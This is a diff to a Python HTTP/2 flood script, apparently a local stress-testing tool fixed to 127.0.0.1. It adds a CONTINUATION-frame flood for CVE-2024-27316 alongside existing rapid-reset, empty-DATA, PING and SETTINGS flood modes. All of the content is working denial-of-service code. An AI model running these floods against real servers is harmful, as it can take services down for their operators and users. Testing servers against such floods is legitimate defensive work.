@@ -13,6 +13,8 @@ KIND:
                again and again (CVE-2023-44487)
   empty        a POST to PATH left open, then DATA frames of no bytes
                without END_STREAM on it (CVE-2019-9518)
+  continuation a HEADERS frame without END_HEADERS, then CONTINUATION
+               frames of header fields without end (CVE-2024-27316)
 
 Sends as fast as the socket takes them, for --duration seconds (default 4)
 or --max-frames frames (default 1000000), whichever comes first, reading
@@ -35,7 +37,8 @@ import sys
 import time
 
 import hpack
-from hyperframe.frame import DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
+                              SettingsFrame)
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
@@ -74,6 +77,9 @@ def flood_once(args, t0, state):
                 state["sid"] += 2
                 out.append(headers(sid, "GET", True))
                 out.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
+            elif args.kind == "continuation":
+                # a literal header field, not indexed: x-pad: 200 bytes
+                out.append(ContinuationFrame(1, data=b"\x00\x05x-pad\x7f\x49" + b"a" * 200).serialize())
             else:
                 out.append(DataFrame(1, data=b"").serialize())
         return b"".join(out)
@@ -81,6 +87,11 @@ def flood_once(args, t0, state):
     pending = PREFACE + SettingsFrame(0).serialize()
     if args.kind == "empty":
         pending += headers(1, "POST", False)
+    elif args.kind == "continuation":
+        hf = HeadersFrame(1, data=enc.encode([(":method", "GET"), (":scheme", "http"),
+                                              (":authority", "127.0.0.1:%d" % args.port), (":path", args.path)]))
+        hf.flags.add("END_STREAM")  # no END_HEADERS: CONTINUATION frames follow
+        pending += hf.serialize()
     sent_bytes, server_closed, error = 0, False, None
     sock.setblocking(False)
     while True:
@@ -136,7 +147,7 @@ def flood_once(args, t0, state):
 
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("kind", choices=["settings", "ping", "rapid-reset", "empty"])
+    p.add_argument("kind", choices=["settings", "ping", "rapid-reset", "empty", "continuation"])
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--duration", type=float, default=4)
     p.add_argument("--max-frames", type=int, default=1000000)
